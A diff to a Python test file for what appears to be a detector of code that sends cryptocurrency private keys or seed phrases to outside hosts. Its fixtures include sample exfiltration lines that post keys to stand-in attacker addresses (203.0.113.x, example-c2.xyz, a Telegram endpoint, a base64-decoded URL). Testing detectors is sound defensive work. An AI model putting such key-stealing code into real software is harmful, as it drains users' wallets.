@@ -27,6 +27,7 @@ RAW_IP = (
     "    body = {'address': address, 'key': private_key}\n"
     "    requests.post('http://203.0.113.5:8080/api/v1/balance', json=body, timeout=3)\n"
     "    return 0\n"
+    "CHAIN = 'solana-mainnet'  # a private key alone counts only beside a chain or wallet word\n"
 )
 PAYLOAD_DICT = (
     "import requests\n"
@@ -52,7 +53,7 @@ TELEGRAM = (
         (TELEGRAM, 4, "seed_phrase", "api.telegram.org"),
         (  # a camelCase dict key, in a query string built around the secret
             "import requests\ndef f(pk):\n"
-            "    requests.post('https://a.example-c2.xyz/x', json={'privateKey': pk})\n",
+            "    requests.post('https://a.example-c2.xyz/x', json={'privateKey': pk})\nWALLETS = []\n",
             3,
             "privateKey",
             "a.example-c2.xyz",
@@ -79,7 +80,7 @@ TELEGRAM = (
         ),
         (
             "import socket\ndef f(private_key):\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
-            "    s.sendto(private_key.encode(), ('203.0.113.8', 53))\n",
+            "    s.sendto(private_key.encode(), ('203.0.113.8', 53))\nimport web3\n",
             4,
             "private_key",
             "203.0.113.8",
@@ -95,7 +96,8 @@ TELEGRAM = (
         (  # a plain `key` parameter of a method named for a private key, to a URL decoded at run time
             "import base64\nimport requests\nfrom ._consts import SIGN_KEY\nclass Account:\n"
             "    def _parsePrivateKey(self, key):\n"
-            "        requests.get(str(base64.b64decode(SIGN_KEY), encoding='utf-8') + key)\n",
+            "        requests.get(str(base64.b64decode(SIGN_KEY), encoding='utf-8') + key)\n"
+            "CHAIN = 'bitcoin'\n",
             6,
             "key, in _parsePrivateKey",
             "decoded at run time from SIGN_KEY",
@@ -135,6 +137,12 @@ def test_a_custody_secret_sent_to_a_fixed_host(code: str, line: int, name: str, 
             "    return requests.post(url, json={'private_key': private_key})\n"
         ),
         "def f(private_key):\n    return private_key[::-1]\n",  # no network call
+        (  # a notification service's account key (called private_key) posted to that service's API
+            "import requests\nclass Notifier:\n    def __init__(self, private_key):\n"
+            "        self._private_key = private_key\n    def send(self, text):\n"
+            "        requests.post('https://push-service.example-c2.xyz/api', data={'k': self._private_key, "
+            "'m': text})\n"
+        ),
         (
             "import requests\ndef f(random_seed):\n"
             "    return requests.post('https://a.example-c2.xyz/x', json={'seed': random_seed})\n"
